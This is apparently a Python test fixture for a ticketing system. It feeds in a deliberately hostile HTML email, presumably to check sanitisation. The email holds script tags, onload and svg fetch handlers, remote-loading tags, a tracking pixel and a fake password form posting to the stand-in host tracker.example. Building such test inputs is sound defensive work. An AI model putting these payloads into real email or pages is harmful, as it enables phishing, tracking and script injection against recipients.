"""A mail that tries everything, on a ticket of its own. Called by ``Desk.ask``."""

from servicedesk.accounts.models import User
from tickets import services
from tickets.choices import Channel
from tickets.intake.mail.keeping import files_of
from tickets.intake.mail.reading import read_mail
from tickets.services import TicketDraft

FAR = "http://tracker.example"
PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJg"
    "gg=="
)
HTML = f"""
<html><head><meta http-equiv="refresh" content="0;url={FAR}/refresh">
<link rel="stylesheet" href="{FAR}/style.css"><style>@import "{FAR}/import.css";</style></head>
<body onload="document.title='acted'" background="{FAR}/background.png">
<h1>The gate is red</h1><p style="background:url({FAR}/style.png)">See the picture:</p>
<img src="cid:gate@acme" alt="the gate" width="40" height="40">
<img src="{FAR}/pixel.gif" alt="from afar" width="1" height="1">
<script src="{FAR}/script.js"></script><script>parent.document.title = "acted"</script>
<form action="{FAR}/form" method="post"><input name="password"><button>Sign in again</button></form>
<iframe src="{FAR}/frame"></iframe><object data="{FAR}/object"></object>
<svg onload="fetch('{FAR}/svg')"></svg><video src="{FAR}/video" autoplay></video>
<a href="{FAR}/link">Details</a></body></html>
"""
MAIL = (
    "From: alice@acme.example\nSubject: {subject}\nMIME-Version: 1.0\n"
    'Content-Type: multipart/related; boundary="edge"\n\n'
    "--edge\nContent-Type: text/html; charset=utf-8\n\n{html}\n"
    "--edge\nContent-Type: image/png\nContent-ID: <gate@acme>\nContent-Disposition: inline\n"
    "Content-Transfer-Encoding: base64\n\n{pixel}\n--edge--\n"
)


def receive(subject: str, people: dict[str, str]) -> int:
    """The number of the ticket this mail of Alice's opened."""
    alice = User.objects.get(email=people["alice"])
    mail = read_mail(MAIL.format(subject=subject, html=HTML, pixel=PIXEL).encode())
    draft = TicketDraft(subject=mail.subject, body=mail.text, requester=alice, channel=Channel.MAIL)
    return services.open_ticket(draft, actor=alice, files=files_of(mail)).pk
